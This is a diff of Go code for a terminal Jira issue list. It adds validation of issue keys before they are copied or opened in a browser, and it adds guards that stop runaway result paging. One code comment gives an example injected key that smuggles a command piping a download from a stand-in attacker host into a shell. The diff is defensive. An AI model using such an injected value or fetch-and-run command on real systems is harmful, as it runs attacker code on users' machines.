@@ -22,6 +22,7 @@
 package list
 
 import (
+	"fmt"
 	"strconv"
 	"strings"
 	"time"
@@ -114,6 +115,7 @@ type Model struct {
 	total  int // exact total (Data Center); -1 unknown
 	approx int // approximate count (Cloud); -1 unknown
 	widths colWidths
+	pages  int // pages taken for the current query (paging always ends: jiraclient.CheckPaging)
 
 	cursor  int // index into the shown rows
 	offset  int // first row drawn
@@ -523,7 +525,7 @@ func (m Model) onInput(msg tea.Msg) (Model, tea.Cmd) {
 // onKey handles a key in normal mode.
 func (m Model) onKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
 	page := max(1, m.listRows())
-	switch keys.ListActionFor(m.listKeys(), msg) {
+	switch act := keys.ListActionFor(m.listKeys(), msg); act {
 	case keys.ListUp:
 		return m, m.moveTo(m.cursor - 1)
 	case keys.ListDown:
@@ -575,22 +577,24 @@ func (m Model) onKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
 		return m, nil
 	case keys.ListRefresh:
 		return m, m.Refresh()
-	case keys.ListBrowser:
-		if is := m.Current(); is != nil && m.c.Client != nil {
-			return m, common.Browse(m.c.Client.BrowseURL(is.Key))
+	case keys.ListBrowser, keys.ListCopyKey, keys.ListCopyURL:
+		is := m.Current()
+		if is == nil || (act != keys.ListCopyKey && m.c.Client == nil) {
+			return m, nil
 		}
-		return m, nil
-	case keys.ListCopyKey:
-		if is := m.Current(); is != nil {
+		// A key that is not a Jira key ("HOS-2\ncurl evil.example|sh")
+		// is never copied or opened: pasted into a shell it would run.
+		if err := jiraclient.CheckKey(is.Key); err != nil {
+			return m, noticeCmd(common.NoticeError, errorText(err))
+		}
+		switch act {
+		case keys.ListBrowser:
+			return m, common.Browse(m.c.Client.BrowseURL(is.Key))
+		case keys.ListCopyKey:
 			return m, common.Copy(is.Key, is.Key)
 		}
-		return m, nil
-	case keys.ListCopyURL:
-		if is := m.Current(); is != nil && m.c.Client != nil {
-			u := m.c.Client.BrowseURL(is.Key)
-			return m, common.Copy(u, u)
-		}
-		return m, nil
+		u := m.c.Client.BrowseURL(is.Key)
+		return m, common.Copy(u, u)
 	case keys.ListPreview:
 		m.preview = !m.preview
 		m.previewOffset = 0
@@ -780,16 +784,30 @@ func (m Model) onPage(msg PageMsg) (Model, tea.Cmd) {
 		return m.takeFirst(msg)
 	}
 	m.loadingMore = false
-	m.appendPage(msg.Page)
+	added := m.appendPage(msg.Page)
+	stopped := m.checkPaging(msg, added)
 	var cmd tea.Cmd
 	if m.filterIn.Value() != "" {
 		// A new page may bring a match under the cursor: its prefetch.
 		cmd = m.applyFilter()
 	}
 	if m.toEnd {
-		return m, tea.Batch(cmd, m.toLast())
+		return m, tea.Batch(stopped, cmd, m.toLast())
 	}
-	return m, tea.Batch(cmd, m.maybeLoadMore())
+	return m, tea.Batch(stopped, cmd, m.maybeLoadMore())
+}
+
+// checkPaging ends the paging when Jira will not (a repeated page token, a
+// page with no new issue, MaxPages), and says so: a spinner that never
+// stops, or thousands of requests, is the other outcome.
+func (m *Model) checkPaging(msg PageMsg, added int) tea.Cmd {
+	m.pages++
+	stop := jiraclient.CheckPaging(msg.Cursor, msg.Page, added, m.pages)
+	if stop == jiraclient.PageGoOn {
+		return nil
+	}
+	m.last, m.next = true, jiraclient.Cursor{}
+	return noticeCmd(common.NoticeWarning, fmt.Sprintf("stopped loading after %d issues: %s", len(m.issues), stop))
 }
 
 // takeFirst replaces the shown issues with a query's first page.
@@ -818,7 +836,9 @@ func (m Model) takeFirst(msg PageMsg) (Model, tea.Cmd) {
 	m.issues, m.index, m.hay = nil, nil, nil
 	m.widths = colWidths{}
 	m.total = -1
-	m.appendPage(msg.Page)
+	m.pages = 0
+	added := m.appendPage(msg.Page)
+	stopped := m.checkPaging(msg, added)
 	m.cursor, m.offset = 0, 0
 	if prevKey != "" {
 		for i := range m.issues {
@@ -828,7 +848,7 @@ func (m Model) takeFirst(msg PageMsg) (Model, tea.Cmd) {
 			}
 		}
 	}
-	var cmds []tea.Cmd
+	cmds := []tea.Cmd{stopped}
 	if m.filterIn.Value() != "" {
 		cmds = append(cmds, m.applyFilter())
 	}
@@ -856,8 +876,10 @@ func (m *Model) setAdHoc(q string) {
 	m.active = len(m.tabs) - 1
 }
 
-// appendPage adds a page's issues and widens the columns to fit them.
-func (m *Model) appendPage(p jiraclient.SearchPage) {
+// appendPage adds a page's issues and widens the columns to fit them, and
+// returns how many were new.
+func (m *Model) appendPage(p jiraclient.SearchPage) int {
+	added := 0
 	if m.index == nil {
 		m.index = make(map[string]int, len(p.Issues))
 	}
@@ -865,7 +887,9 @@ func (m *Model) appendPage(p jiraclient.SearchPage) {
 		if _, dup := m.index[p.Issues[i].Key]; dup {
 			continue // an issue that moved between pages while we paged
 		}
+		added++
 		m.index[p.Issues[i].Key] = len(m.issues)
+		p.Issues[i].Summary = capSummary(p.Issues[i].Summary)
 		m.issues = append(m.issues, p.Issues[i])
 		m.hay = append(m.hay, p.Issues[i].Key+" "+p.Issues[i].Summary)
 		m.widths.fit(&p.Issues[i])
@@ -874,6 +898,7 @@ func (m *Model) appendPage(p jiraclient.SearchPage) {
 	if p.Total >= 0 {
 		m.total = p.Total
 	}
+	return added
 }
 
 // onFilters adds the favourite filters as tabs after the saved queries.
